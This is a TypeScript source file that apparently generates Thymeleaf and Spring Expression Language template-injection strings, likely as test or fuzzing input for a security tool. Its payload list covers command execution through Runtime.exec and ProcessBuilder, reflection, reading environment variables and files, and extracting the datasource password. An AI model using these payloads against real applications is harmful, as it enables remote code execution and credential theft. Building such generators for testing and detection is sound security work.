// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Thymeleaf: preprocessing, inlined and selection expressions, fragments; Spring's language in them. */
export const thymeleafPreprocess = templateGenerator({
  name: 'thymeleaf-preprocess',
  engines: ['thymeleaf'],
  rules: {
    start: [
      '__{sigil}{l}{spel}{r}__::{fragment}',
      '__{sigil}{l}{spel}{r}__',
      '{before}__{sigil}{l}{spel}{r}__{after}::',
      ':: __{sigil}{l}{spel}{r}__',
      '[[{sigil}{l}{spel}{r}]]',
      '{before}[[{sigil}{l}{spel}{r}]]{after}',
      '[({sigil}{l}{spel}{r})]',
      '{before}{sigil}{l}{spel}{r}{after}',
      '~{l}::__{sigil}{l}{spel}{r}__{r}',
      '|{letters} {sigil}{l}{spel}{r}|',
      '<p th:text="{sigil}{l}{spel}{r}"></p>',
      '<a th:href="@{l}__{sigil}{l}{spel}{r}__{r}">',
      '<div th:with="x={sigil}{l}{spel}{r}">',
      '<span data-th-utext="{sigil}{l}{spel}{r}">',
    ],
    sigil: ['$', '*', '$', '$'],
    fragment: ['.x', 'x', '', '{letters}'],
    spel: [
      'T(java.lang.Runtime).getRuntime().exec("{command}")',
      "T( java.lang.Runtime ).getRuntime().exec('{command}')",
      'T(java.lang.System).getenv()',
      "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('{command}').getInputStream()).next()",
      "new java.lang.ProcessBuilder({l}'{command}'{r}).start()",
      "''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('{command}')",
      '#ctx.getVariableNames()',
      "#execInfo.templateName.getClass().forName('java.lang.Runtime')",
      "@environment.getProperty('spring.datasource.password')",
      '@{letters}Service.delete{letters}()',
      "T(java.nio.file.Files).readString(T(java.nio.file.Path).of('{file}'))",
      '#request.getSession().getServletContext()',
      '#vars.getClass().getClassLoader()',
    ],
  },
});
